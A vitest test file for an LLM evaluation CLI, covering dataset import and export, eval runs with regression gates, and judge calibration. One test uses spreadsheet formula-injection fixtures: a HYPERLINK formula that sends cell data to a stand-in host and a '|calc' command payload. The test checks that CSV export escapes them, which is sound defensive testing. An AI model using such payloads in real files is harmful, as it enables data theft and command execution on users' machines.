import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { registerDatasets } from '../../cli/commands/datasets.js';
import { registerEval } from '../../cli/commands/eval.js';
import { registerJudge } from '../../cli/commands/judge.js';
import { TEST_POSTGRES_URL, uniqueSchema } from '../../store/contract/backends.js';
import { dropSchemas } from '../../store/contract/drop-schemas.js';
import { openStores } from '../../store/open-stores.js';
import { closedPort } from '../../test-support/gateway-harness.js';
import { cliPerFile } from '../__fixtures__/cli-per-file.js';
import { SUPPORT_JSONL, type SimWorld } from '../__fixtures__/sim-gateway.js';
import { gatewayArgs, storeArgsOf } from './eval-actions.js';

let world: SimWorld;
const run = cliPerFile(
  (program) => {
    registerEval(program);
    registerDatasets(program);
    registerJudge(program);
  },
  (started) => {
    world = started;
  },
);

/** Runs `switchyard …` in-process against the world's store (unless `--db` names another) and returns what it printed. */
const cli = (...argv: string[]): Promise<string> => run(...argv, ...(argv.includes('--db') ? [] : ['--db', world.dbPath]));

describe('switchyard datasets', () => {
  it('imports, lists, shows and exports (export then import is unchanged)', async () => {
    const file = world.write('support-5.jsonl', SUPPORT_JSONL);
    expect(await cli('datasets', 'import', file)).toMatch(/^imported 5 items as support-5@1 \(\w{12}\)$/);
    expect(await cli('datasets', 'list')).toMatch(/support-5 .*v1 .*5 /);
    expect(await cli('datasets', 'show', 'support-5', '-n', '2')).toMatch(/^support-5: 1 version \(→ the one shown below\)\n→ v1 .*5 items[\s\S]*Where is my new card\?/);
    expect(await cli('datasets', 'show', 'support-5', '-n', '2')).toMatch(/^the first 2 of 5 items: --limit N shows more, switchyard datasets export support-5@1 writes them all$/m);
    expect(await cli('datasets', 'show', 'support-5')).not.toMatch(/the first/);
    // A typo in the file's name is named with the file it most likely meant, not as ENOENT.
    await expect(cli('datasets', 'import', file.replace('support-5', 'support-6'))).rejects.toThrow(`cannot read dataset file ${file.replace('support-5', 'support-6')}: no such file (did you mean ${file}?)`);
    await cli('datasets', 'import', world.write('one.jsonl', '{"id":"only","input":"Hi"}\n'));
    expect(await cli('datasets', 'show', 'one')).toMatch(/^one: 1 version \(→ the one shown below\)\n→ v1 +\w{12} +1 item +/);
    const out = join(world.dir, 'export.jsonl');
    await cli('datasets', 'export', 'support-5', '--out', out);
    expect(readFileSync(out, 'utf8')).toBe(SUPPORT_JSONL);
    expect(await cli('datasets', 'import', out, '--name', 'support-5')).toMatch(/^unchanged: .* is already support-5@1/);
  });

  it('exports a spreadsheet\'s CSV (BOM, CRLF, semicolons, a quoted line break) as CSV on stdout with --out -, its other columns kept, and reads it back unchanged', async () => {
    const excel = world.write('excel.csv', '\uFEFFInput;Expected;Notes\r\n"How do I reset my PIN?";reset;"first line\nsecond line"\r\n"Charged twice; help";refund;"3,5 EUR"\r\n"input";x;\r\n');
    expect(await cli('datasets', 'import', excel)).toMatch(/^imported 3 items as excel@1 /);
    const csv = await cli('datasets', 'export', 'excel', '--format', 'csv', '--out', '-');
    expect(csv.split('\n')[0]).toBe('id,input,expected,output,human_score,Notes');
    expect(csv).toContain(',Charged twice; help,refund,,,"3,5 EUR"');
    expect(csv).toContain(',How do I reset my PIN?,reset,,,"first line\nsecond line"');
    const again = world.write('excel-again.csv', csv);
    expect(await cli('datasets', 'import', again, '--name', 'excel')).toMatch(/^unchanged: .* is already excel@1/);
    // A metadata key that is also a field's name goes out as metadata.KEY, and comes back as the key.
    await cli('datasets', 'import', world.write('clash.jsonl', '{"id":"a","input":"hi","metadata":{"Output":"from a note"}}\n'));
    const clash = await cli('datasets', 'export', 'clash', '--format', 'csv');
    expect(clash).toBe('id,input,expected,output,human_score,metadata.Output\na,hi,,,,from a note\n');
    expect(await cli('datasets', 'import', world.write('clash-again.csv', clash), '--name', 'clash')).toMatch(/^unchanged: /);
  });

  it('exports a text a spreadsheet would run as a formula with a leading apostrophe, numbers as they are, and reads it back unchanged', async () => {
    const rows = [
      { id: 'f1', input: '=HYPERLINK("http://evil.example/?d="&A1,"click")', expected: '-3' },
      { id: 'f2', input: '@SUM(1+1)*cmd|calc', expected: '+1.5e3' },
      { id: 'f3', input: '-rf is a flag', expected: "'quoted already" },
    ];
    await cli('datasets', 'import', world.write('formulas.jsonl', rows.map((r) => `${JSON.stringify(r)}\n`).join('')));
    const csv = await cli('datasets', 'export', 'formulas', '--format', 'csv', '--out', '-');
    expect(csv).toContain(`f1,"'=HYPERLINK(""http://evil.example/?d=""&A1,""click"")",-3,`);
    expect(csv).toContain("f2,'@SUM(1+1)*cmd|calc,+1.5e3,");
    expect(csv).toContain("f3,'-rf is a flag,'quoted already,");
    expect(await cli('datasets', 'import', world.write('formulas-again.csv', csv), '--name', 'formulas')).toMatch(/^unchanged: .* is already formulas@1/);
  });

  it('shows a cut cell with an ellipsis, so a shortened answer does not pass for the whole one', async () => {
    const long = `Track it in the app under Cards. ${'If it has not arrived after three weeks we send a new one. '.repeat(4)}`;
    const file = world.write('long-answer.jsonl', `${JSON.stringify({ id: 'a', input: 'Where is my card?', output: long.trim() })}\n`);
    await cli('datasets', 'import', file);
    const shown = await cli('datasets', 'show', 'long-answer');
    expect(shown).toContain('…');
    expect(shown).not.toContain('one. If it has not arrived after three weeks we send a new one. If');
  });

  it('reports malformed lines by number, and --skip-bad-lines imports the rest', async () => {
    const file = world.write('broken.jsonl', '{"input":"ok"}\n{broken\n');
    await expect(cli('datasets', 'import', file)).rejects.toThrow(/broken\.jsonl:2: not valid JSON/);
    expect(await cli('datasets', 'import', file, '--skip-bad-lines')).toMatch(/imported 1 item as broken@1 \(\w+\)\nskipped 1 malformed line:\n  .*broken\.jsonl:2: not valid JSON/);
  });
});

describe('the commands an eval run suggests', () => {
  it('name the store the run is in when it is not the default one, and never a PostgreSQL URL', () => {
    const saved = process.env.SWITCHYARD_DB;
    delete process.env.SWITCHYARD_DB;
    try {
      expect(storeArgsOf({}, { sqlite: '.switchyard/switchyard.db' })).toBe('');
      // examples/guarded.sim.yaml keeps its own file: `eval show last` alone read the default store's newest run.
      expect(storeArgsOf({}, { sqlite: '.switchyard/guarded-example.db' })).toBe(' --db .switchyard/guarded-example.db');
      expect(storeArgsOf({ db: 'my runs.db' }, { sqlite: 'my runs.db' })).toBe(" --db 'my runs.db'");
      expect(storeArgsOf({}, { postgres: 'postgres://ana:secret@db/sy' })).toBe('');
      expect(gatewayArgs({ gateway: 'http://127.0.0.1:4000' })).toBe(' --gateway http://127.0.0.1:4000');
    } finally {
      if (saved !== undefined) process.env.SWITCHYARD_DB = saved;
    }
  });
});

describe('switchyard eval and judge against the simulator', () => {
  it('runs a suite, then gates a candidate against it: exit 0 when equal, 1 on regression', async () => {
    world.sim.addScript({ match: 'Reply wrongly', reply: 'no idea' });
    world.sim.addScript({ model: 'standin-small', match: '^Reply', reply: 'ships, refund form, reset, fee, close' });
    const lines = Array.from({ length: 30 }, (_, i) => JSON.stringify({ id: `c${i}`, input: `question ${i}`, expected: 'refund form' })).join('\n');
    world.write('thirty.jsonl', `${lines}\n`);
    const suite = (prompt: string) => world.write('gate.yaml', `dataset: thirty.jsonl\nvariants:\n  bot: { model: small, prompt: "${prompt}: {{input}}" }\nscorers:\n  - { type: contains }\n`);
    const json = join(world.dir, 'result.json');
    const first = await cli('eval', 'run', suite('Reply'), '--config', world.configPath, '--out', json);
    expect(first).toMatch(/run (run_\w+) · completed · thirty · dataset thirty@1/);
    const baseline = /run (run_\w+) ·/.exec(first)?.[1] as string;
    // A suite's first run has nothing to compare with, so no compare command is offered.
    expect(first).not.toContain('eval compare');
    expect(first).toContain('cases: switchyard eval show last --cases');
    // The rerun it suggests runs as printed: without the run's --config it stopped at "evaluation needs a gateway".
    expect(first).toContain(`repeat exactly: switchyard eval rerun last --config ${world.configPath} --db ${world.dbPath}`);
    // And the commands that read the run read the store it is in.
    expect(first).toContain(`cases: switchyard eval show last --cases --db ${world.dbPath}`);
    const written = JSON.parse(readFileSync(json, 'utf8')) as { run: { id: string }; results: unknown[] };
    expect(written.run.id).toBe(baseline);
    expect(written.results).toHaveLength(30);
    // Thirty agreeing cases bound an unseen drop at 10 points (rule of three), so a 15-point
    // tolerance is shown; the default 2 points would need 150 cases.
    const same = await cli('eval', 'run', suite('Reply'), '--config', world.configPath, '--baseline', baseline, '--tolerance', '0.15');
    expect(same).toMatch(/PASS bot: .*shown no worse than −15\.0 pts[\s\S]*gate: passed/);
    expect(same).toContain(`compare with this suite's previous run: switchyard eval compare ${baseline} last`);
    expect(process.exitCode).toBeUndefined();
    // A tolerance written as a percentage is refused with the fraction it meant.
    await expect(cli('eval', 'run', suite('Reply'), '--config', world.configPath, '--baseline', baseline, '--tolerance', '2')).rejects.toThrow(
      '--tolerance must be a number from 0 to 1, got "2" (a fraction of 1: 0.02 for 2%)',
    );
    await expect(cli('eval', 'run', suite('Reply'), '--config', world.configPath, '--baseline', baseline, '--tolerance', '150')).rejects.toThrow(/got "150"$/);
    const worse = await cli('eval', 'run', suite('Reply wrongly'), '--config', world.configPath, '--baseline', baseline, '--tolerance', '0.05');
    expect(worse).toMatch(/FAIL bot: candidate − baseline = -100\.0 pts[\s\S]*gate: FAILED/);
    expect(process.exitCode).toBe(1);
    expect(await cli('eval', 'list')).toContain(baseline);
    // In an 80-column terminal the list keeps each run's id, dataset and quality on one line.
    const columns = process.env.COLUMNS;
    process.env.COLUMNS = '80';
    try {
      const lines = (await cli('eval', 'list')).split('\n');
      expect(Math.max(...lines.map((l) => [...l].length))).toBeLessThanOrEqual(80);
      expect(lines.some((l) => l.startsWith(`│ ${baseline} │`) && /│ \S+@\d+ +│ bot \d+\.\d% +│$/.test(l))).toBe(true);
      const datasets = (await cli('datasets', 'list')).split('\n');
      expect(Math.max(...datasets.map((l) => [...l].length))).toBeLessThanOrEqual(80);
      expect(datasets.some((l) => /^│ \S+ +│ v\d+ +│ \d+ +│/.test(l))).toBe(true);
    } finally {
      if (columns === undefined) delete process.env.COLUMNS;
      else process.env.COLUMNS = columns;
    }
    expect(await cli('eval', 'show', baseline, '--cases')).toMatch(/c29 · bot · pass · quality 100\.0%[^\n]*\n  input: {4}question 29\n  expected: refund form\n  output: {3}ships, refund form, reset, fee, close\n  contains: 100\.0% pass/);
    // Three runs of 30 cases through an in-process gateway: allow for a machine shared with others.
  }, 60_000);

  it('lists a run interrupted before its first case with no quality, not 0%, and offers no comparison with it', async () => {
    world.write('none.jsonl', SUPPORT_JSONL);
    const suite = world.write('interrupted.yaml', 'name: interrupted\ndataset: none.jsonl\nvariants:\n  bot: { model: small, prompt: "{{input}}" }\nscorers:\n  - { type: contains }\n');
    const first = /run (run_\w+) ·/.exec(await cli('eval', 'run', suite, '--config', world.configPath))?.[1] as string;
    // As Ctrl-C before the first answer leaves it: interrupted, its variant with no case scored.
    const stores = await openStores({ sqlite: world.dbPath });
    try {
      const run = await stores.runs.get(first);
      const summary = run.summary as { variants: { cases: number; quality: { estimate: number } }[] };
      await stores.runs.setStatus(first, 'interrupted', null, { ...summary, variants: summary.variants.map((v) => ({ ...v, cases: 0, quality: { ...v.quality, estimate: 0 } })) });
    } finally {
      await stores.close();
    }
    expect((await cli('eval', 'list')).split('\n').find((l) => l.includes(first))).toMatch(/│ bot – +│$/);
    expect(await cli('eval', 'run', suite, '--config', world.configPath)).not.toContain('compare with this suite\'s previous run');
  });

  it('gives five cases that all score 100% the rule of three\'s interval, not a bootstrap\'s zero width, and says so (table and --json)', async () => {
    world.sim.addScript({ model: 'standin-small', match: '^Perfect five', reply: 'see the refund form' });
    const items = Array.from({ length: 5 }, (_, i) => JSON.stringify({ id: `p${i}`, input: `question ${i}`, expected: 'refund form' })).join('\n');
    world.write('perfect-five.jsonl', `${items}\n`);
    const suite = world.write('perfect.yaml', 'dataset: perfect-five.jsonl\nvariants:\n  bot: { model: small, prompt: "Perfect five: {{input}}" }\nscorers:\n  - { type: contains }\n');
    const ran = JSON.parse(await cli('eval', 'run', suite, '--config', world.configPath, '--json')) as { summary: { variants: { quality: Record<string, unknown> }[] } };
    // Was { estimate: 1, low: 1, high: 1 }: certainty five cases cannot give. 1 − 3/5 = 0.4.
    expect(ran.summary.variants[0]?.quality).toEqual({ estimate: 1, low: 0.4, high: 1, level: 0.95, ruleOfThree: true });
    const shown = await cli('eval', 'show', 'last');
    expect(shown).toMatch(/│ bot .*100\.0%/);
    expect(shown).toContain('[40.0–100.0]');
    expect(shown).not.toContain('[100.0–100.0]');
    expect(shown).toContain("quality of bot: every case scored 100.0%, so the interval is the rule of three's ±3/n over 5 cases, not a bootstrap");
  });

  it('says why every call failed under the table and exits 1, so a refused provider does not read as a 0% model', async () => {
    // A port nothing listens on: the simulator a newcomer forgot to start.
    const closed = await closedPort();
    const config = world.write('down.yaml', readFileSync(world.configPath, 'utf8').replace(world.sim.url, `http://127.0.0.1:${closed}`));
    world.write('down-suite.yaml', 'dataset: down.jsonl\nvariants:\n  bot: { model: small, prompt: "{{input}}" }\nscorers:\n  - { type: contains }\n');
    world.write('down.jsonl', `${JSON.stringify({ id: 'a', input: 'q1', expected: 'x' })}\n${JSON.stringify({ id: 'b', input: 'q2', expected: 'x' })}\n`);
    const out = await cli('eval', 'run', join(world.dir, 'down-suite.yaml'), '--config', config);
    expect(out).toMatch(new RegExp(`call errors: 2 × every target for model "small" failed[^\\n]*cannot connect to provider "sim" \\(http://127\\.0\\.0\\.1:${closed}\\)`));
    expect(out).toMatch(/No case was answered, so the figures above measure nothing/);
    expect(process.exitCode).toBe(1);
    process.exitCode = undefined;
    expect(await cli('eval', 'show', 'last')).toMatch(/call errors: 2 × every target for model "small" failed/);
    // Run again, still down: no "compare with this suite's previous run" hint, since this run measured nothing to compare.
    const again = await cli('eval', 'run', join(world.dir, 'down-suite.yaml'), '--config', config);
    expect(again).toMatch(/No case was answered/);
    expect(again).not.toMatch(/compare with this suite's previous run/);
    expect(again).toMatch(/cases: switchyard eval show last --cases/);
    process.exitCode = undefined;
    // A run with answers keeps exit 0 and says nothing of errors.
    world.sim.addScript({ model: 'standin-small', match: '^q\\d', reply: 'x marks it' });
    world.write('up.yaml', 'dataset: down.jsonl\nvariants:\n  bot: { model: small, prompt: "{{input}}" }\nscorers:\n  - { type: contains }\n');
    const up = await cli('eval', 'run', join(world.dir, 'up.yaml'), '--config', world.configPath, '--no-cache');
    expect(up).not.toMatch(/call errors|No case was answered/);
    expect(process.exitCode).toBeUndefined();
    // The walkthrough's next step compares with the failed run: it says so plainly, with no delta
    // table against its zeros, and exits 1 for a CI step; the failed run stays addressable.
    const compared = await cli('eval', 'compare', 'last~1', 'last');
    expect(compared).toMatch(/not compared: run run_\w+ \(A\) answered no case of variant "bot" \(2 of 2 cases failed; first error: every target for model "small" failed[^\n]*ECONNREFUSED/);
    expect(compared).not.toMatch(/quality A|B − A/);
    expect(process.exitCode).toBe(1);
    process.exitCode = undefined;
    expect(await cli('eval', 'show', 'last~1')).toMatch(/No case was answered/);
  });

  it('calibrates a judge on human scores, saves it, and a suite uses it by name', async () => {
    // The judge model agrees with people: it reads the quality hint in each answer.
    for (let s = 1; s <= 5; s++) world.sim.addScript({ model: 'standin-large', match: `Answer to score:\\s+answer of quality ${s}`, reply: { json: { reason: `quality ${s}`, score: s } } });
    const items = Array.from({ length: 12 }, (_, i) => JSON.stringify({ id: `h${i}`, input: `q${i}`, output: `answer of quality ${(i % 5) + 1}`, human_score: (i % 5) + 1 }));
    await cli('datasets', 'import', world.write('scored.jsonl', `${items.join('\n')}\n`));
    const out = await cli('judge', 'calibrate', '--dataset', 'scored', '--model', 'judge', '--rubric', 'Is it good?', '--name', 'quality', '--config', world.configPath);
    // Six agreeing test items: not the bootstrap's [1.000, 1.000], an interval and n beside it.
    expect(out).toMatch(/quadratic-weighted κ +│ 1\.000 \[-?0\.\d{3}, 1\.000\] \(rule of three, n = 6\)/);
    expect(out).toMatch(/^κ, ρ, bias: the judge agrees with people the same way on all 6 test items/m);
    expect(out).toMatch(/warning: only 6 human labels in the test split/);
    expect(out).toMatch(/saved as judge quality@1/);
    expect(await cli('judge', 'list')).toMatch(/^quality@1 .*model judge .*κ\(test\) 1\.000 \[-?0\.\d{3}, 1\.000\] \(rule of three, n = 6\)$/);
    // The same calibration again (same data version, same agreement): before, a second identical version, quality@2.
    const calibrate = ['judge', 'calibrate', '--dataset', 'scored', '--model', 'judge', '--rubric', 'Is it good?', '--name', 'quality', '--config', world.configPath];
    expect(await cli(...calibrate)).toMatch(/^not saved: the judge is identical to quality@1 \(same model, rubric and anchors, calibrated on scored@1 with the same agreement\); --save-again saves a copy$/m);
    expect((await cli('judge', 'list')).trim().split('\n')).toHaveLength(1);
    expect(await cli(...calibrate, '--save-again')).toMatch(/saved as judge quality@2/);
    world.sim.addScript({ model: 'standin-small', match: '^Rate me', reply: 'answer of quality 4' });
    world.write('judged.yaml', 'dataset: scored\nvariants:\n  echo: { model: small, prompt: "Rate me: {{input}}" }\nscorers:\n  - { type: judge, judge: quality }\n');
    const run = await cli('eval', 'run', join(world.dir, 'judged.yaml'), '--config', world.configPath);
    expect(run).toMatch(/echo .*│ small .*│ 75\.0% /);
  });

  it('calibrates on a --dataset file as on a stored name (imported and versioned, hub fields kept as metadata), and names a missing file or an unknown name', async () => {
    // The judge agrees with people, as above; a hub export carries fields of its own (idx).
    for (let s = 1; s <= 5; s++) world.sim.addScript({ model: 'standin-large', match: `Answer to score:\\s+answer of quality ${s}`, reply: { json: { reason: `quality ${s}`, score: s } } });
    const items = Array.from({ length: 10 }, (_, i) => JSON.stringify({ idx: i, input: `q${i}`, output: `answer of quality ${(i % 5) + 1}`, human_score: (i % 5) + 1 }));
    const file = world.write('hub-scored.jsonl', `${items.join('\n')}\n`);
    expect(await cli('judge', 'calibrate', '--dataset', file, '--model', 'judge', '--rubric', 'Is it good?', '--config', world.configPath)).toMatch(/^calibrated on hub-scored@1 /);
    expect(await cli('datasets', 'show', 'hub-scored', '--json')).toContain('"idx": 3');
    await expect(cli('judge', 'calibrate', '--dataset', join(world.dir, 'hub-scord.jsonl'), '--model', 'judge', '--rubric', 'x', '--config', world.configPath)).rejects.toThrow(
      `cannot read dataset file ${join(world.dir, 'hub-scord.jsonl')}: no such file (did you mean ${file}?)`,
    );
    await expect(cli('judge', 'calibrate', '--dataset', 'hub-scord', '--model', 'judge', '--rubric', 'x', '--config', world.configPath)).rejects.toThrow(
      /^--dataset: dataset "hub-scord" not found \(did you mean "hub-scored"\?\); known datasets: .*hub-scored@1.*; or name a \.jsonl, \.json, \.csv, \.tsv or \.parquet file$/,
    );
    // A judge model one typo away is named, as a suite's unknown model is.
    await expect(cli('judge', 'calibrate', '--dataset', 'hub-scored', '--model', 'judg', '--rubric', 'x', '--config', world.configPath)).rejects.toThrow(/^unknown judge model "judg" \(did you mean "judge"\?\) \(the gateway serves: /);
  });

  it('refuses to save a judge that agrees with people no better than chance, unless --force', async () => {
    // This judge model scores every answer the opposite way from people.
    for (let s = 1; s <= 5; s++) world.sim.addScript({ model: 'claude-standin', match: `Answer to score:\\s+answer of quality ${s}`, reply: { json: { reason: `quality ${6 - s}`, score: 6 - s } } });
    const errors: string[] = [];
    vi.mocked(console.error).mockImplementation((...parts: unknown[]) => void errors.push(parts.join(' ')));
    const out = await cli('judge', 'calibrate', '--dataset', 'scored', '--model', 'claude', '--rubric', 'Is it good?', '--name', 'contrary', '--config', world.configPath);
    expect(out).toMatch(/quadratic-weighted κ +│ -0\.909 /);
    expect(errors.join('\n')).toMatch(/judge contrary NOT saved: its quadratic-weighted κ with people on the test split is -0\.909, at or below 0\.2 .*--force saves it anyway/);
    expect(process.exitCode).toBe(1);
    expect(await cli('judge', 'list')).not.toMatch(/contrary/);
    process.exitCode = undefined;
    expect(await cli('judge', 'calibrate', '--dataset', 'scored', '--model', 'claude', '--rubric', 'Is it good?', '--name', 'contrary', '--force', '--config', world.configPath)).toMatch(/saved as judge contrary@1/);
    expect(process.exitCode).toBeUndefined();
    vi.mocked(console.error).mockImplementation(() => undefined);
  });

  it('generates unreviewed items grounded in a folder of documents', async () => {
    const docs = join(world.dir, 'docs');
    const { mkdirSync, writeFileSync } = await import('node:fs');
    mkdirSync(docs, { recursive: true });
    writeFileSync(join(docs, 'fees.md'), '# Fees\n\nInternational transfers cost 0.5% of the amount, at least 1 EUR. Domestic transfers are free of charge for every plan.\n');
    writeFileSync(join(docs, 'cards.html'), '<html><body><p>Lost cards can be frozen in the app at any time. A replacement card arrives within five working days.</p><script>x()</script></body></html>');
    world.sim.addScript({ model: 'standin-large', match: 'Write \\d question', reply: { json: { items: [{ question: 'How much does it cost?', answer: 'See the passage.' }, { question: 'What is free?', answer: 'Domestic transfers.' }] } } });
    const out = await cli('eval', 'generate', '--from', docs, '--count', '3', '--model', 'judge', '--config', world.configPath, '--dataset', 'synthetic');
    expect(out).toMatch(/^added \d unreviewed items? to synthetic@1/);
    const shown = JSON.parse(await cli('datasets', 'show', 'synthetic', '--json')) as { items: { metadata: Record<string, unknown> }[] };
    expect(shown.items.length).toBeGreaterThan(0);
    expect(shown.items[0]?.metadata).toMatchObject({ reviewed: false, generated_by: 'judge', source: expect.stringMatching(/^(fees\.md|cards\.html)$/), passage: expect.any(String) });
  });

  it('says so when the replies hold fewer items than --count asked for', async () => {
    const docs = join(world.dir, 'docs-short');
    const { mkdirSync, writeFileSync } = await import('node:fs');
    mkdirSync(docs, { recursive: true });
    writeFileSync(join(docs, 'fees.md'), '# Fees\n\nInternational transfers cost 0.5% of the amount, at least 1 EUR. Domestic transfers are free of charge for every plan.\n');
    world.sim.addScript({ model: 'standin-large', match: 'Domestic transfers are free', reply: { json: { items: [{ question: 'Which transfers are free?', answer: 'Domestic transfers.' }] } } }, true);
    const out = await cli('eval', 'generate', '--from', docs, '--count', '2', '--model', 'judge', '--config', world.configPath, '--dataset', 'synthetic-short');
    expect(out).toMatch(/^added 1 unreviewed item to synthetic-short@1/);
    expect(out).toMatch(/1 of the 2 asked for: the model's replies held fewer usable question\/answer pairs/);
    // Run again on the same documents: nothing new (it said "added 1" again while the dataset stayed at @1).
    const again = await cli('eval', 'generate', '--from', docs, '--count', '2', '--model', 'judge', '--config', world.configPath, '--dataset', 'synthetic-short');
    expect(again).toMatch(/^unchanged: the 1 item generated in [\d.]+ s is already in synthetic-short@1 \(a --seed other than the last run's asks about other passages\); 1 is waiting in the review queue/);
  });
});

describe('switchyard eval on a PostgreSQL store', () => {
  const schema = uniqueSchema();
  afterAll(() => dropSchemas(TEST_POSTGRES_URL, [schema]));

  it('imports a dataset, runs a suite whose in-process gateway traces into the same store, and lists it', async () => {
    const db = `${TEST_POSTGRES_URL}?schema=${schema}`;
    world.sim.addScript({ model: 'standin-small', match: '^On PostgreSQL', reply: 'It ships tomorrow.' });
    expect(await cli('datasets', 'import', world.write('pg-support.jsonl', SUPPORT_JSONL), '--db', db)).toMatch(/^imported 5 items as pg-support@1/);
    world.write('pg-suite.yaml', 'dataset: pg-support\nvariants:\n  bot: { model: small, prompt: "On PostgreSQL: {{input}}" }\nscorers:\n  - { type: contains, value: ships }\n');
    const run = await cli('eval', 'run', join(world.dir, 'pg-suite.yaml'), '--config', world.configPath, '--db', db);
    const id = /run (run_\w+) · completed · pg-support/.exec(run)?.[1] as string;
    expect(id).toBeDefined();
    const shown = await cli('eval', 'show', id, '--cases', '--db', db);
    expect(shown).toMatch(/card · bot · pass · quality 100\.0%/);
    // Costs were taken from the traces the in-process gateway wrote to PostgreSQL.
    const stores = await openStores({ postgres: db });
    try {
      const traced = await stores.traces.selectTraces({ metadata: { eval_run: id } });
      expect(traced).toHaveLength(5);
      let cost = 0;
      for await (const result of stores.runs.results(id)) cost += result.costUsd;
      expect(cost).toBeCloseTo(traced.reduce((sum, t) => sum + t.costUsd, 0), 12);
    } finally {
      await stores.close();
    }
  });
});


describe('switchyard eval compare of runs scored differently', () => {
  it('says so under the table, naming each run\'s scorers, and says nothing when the scorers are the same', async () => {
    world.sim.addScript({ model: 'standin-small', match: '^Scored', reply: 'the refund form' });
    world.write('scored.jsonl', `${Array.from({ length: 6 }, (_, i) => JSON.stringify({ id: `s${i}`, input: `question ${i}`, expected: 'refund form' })).join('\n')}\n`);
    const suite = (scorers: string) => world.write('scored.yaml', `dataset: scored.jsonl\nvariants:\n  bot: { model: small, prompt: "Scored: {{input}}" }\nscorers:\n${scorers}`);
    await cli('eval', 'run', suite('  - { type: contains }\n'), '--config', world.configPath);
    await cli('eval', 'run', suite('  - { type: contains }\n'), '--config', world.configPath);
    expect(await cli('eval', 'compare', 'last~1', 'last')).not.toContain('scored differently');
    // A second scorer the answers fail halves the quality of unchanged answers.
    await cli('eval', 'run', suite('  - { type: contains }\n  - { type: regex, pattern: "^never$" }\n'), '--config', world.configPath);
    const compared = await cli('eval', 'compare', 'last~1', 'last');
    expect(compared).toMatch(/bot .*100\.0% .*50\.0%/);
    expect(compared).toContain("the runs were scored differently (A: contains; B: contains, regex): quality is the mean over a run's scorers, so the difference is partly the scorers', not the answers'");
    expect(JSON.parse(await cli('eval', 'compare', 'last~1', 'last', '--json'))).toMatchObject({ scorersChanged: { a: ['contains'], b: ['contains', 'regex'] } });
  });
});

describe('switchyard eval compare --tolerance: two arms of a split on the route\'s traffic', () => {
  it('decides each pair as the CI gate does, B the candidate, and exits 1 unless it passes', async () => {
    // Both arms answer 40 questions; the cheap arm misses the expected answer on 12 of them.
    world.sim.addScript({ model: 'standin-small', match: '^Arm: question (1[0-9]|2[0-1])$', reply: 'no idea' });
    world.sim.addScript({ model: 'standin-small', match: '^Arm:', reply: 'use the refund form' });
    world.sim.addScript({ model: 'standin-large', match: '^Arm:', reply: 'use the refund form' });
    world.write('arms.jsonl', `${Array.from({ length: 40 }, (_, i) => JSON.stringify({ id: `a${i}`, input: `question ${i}`, expected: 'refund form' })).join('\n')}\n`);
    const suite = world.write('arms.yaml', 'dataset: arms.jsonl\nvariants:\n  large: { model: judge, prompt: "Arm: {{input}}" }\n  cheap: { model: small, prompt: "Arm: {{input}}" }\n  again: { model: judge, prompt: "Arm: {{input}}" }\nscorers:\n  - { type: contains }\n');
    await cli('eval', 'run', suite, '--config', world.configPath);
    process.exitCode = undefined;
    const worse = await cli('eval', 'compare', 'last', 'last', '--variants', 'large:cheap', '--tolerance', '0.02');
    expect(worse).toMatch(/^FAIL large → cheap: candidate − baseline = -30\.0 pts .*worse than the baseline by more than 2\.0 pts with 95% confidence$/m);
    expect(worse).toContain('gate: FAILED (non-inferiority, tolerance 0.02)');
    expect(process.exitCode).toBe(1);
    process.exitCode = undefined;
    // The same answers on 40 cases cannot rule out a 2-point drop (the rule of three's ±7.5 points): not shown no worse.
    expect(await cli('eval', 'compare', 'last', 'last', '--variants', 'large:again', '--tolerance', '0.02')).toMatch(/^FAIL large → again: .*inconclusive/m);
    process.exitCode = undefined;
    expect(await cli('eval', 'compare', 'last', 'last', '--variants', 'large:again', '--tolerance', '0.1')).toContain('gate: passed (non-inferiority, tolerance 0.1)');
    expect(process.exitCode).toBeUndefined();
    expect(JSON.parse(await cli('eval', 'compare', 'last', 'last', '--variants', 'large:again', '--tolerance', '0.1', '--json'))).toMatchObject({ gate: { mode: 'non-inferiority', tolerance: 0.1, passed: true } });
    await expect(cli('eval', 'compare', 'last', 'last', '--gate', 'regresion')).rejects.toThrow('--gate decides with an allowed drop: give --tolerance too');
    await expect(cli('eval', 'compare', 'last', 'last', '--tolerance', '0.02', '--gate', 'regresion')).rejects.toThrow('--gate must be one of "non-inferiority", "regression", got "regresion" (did you mean "regression"?)');
  });
});
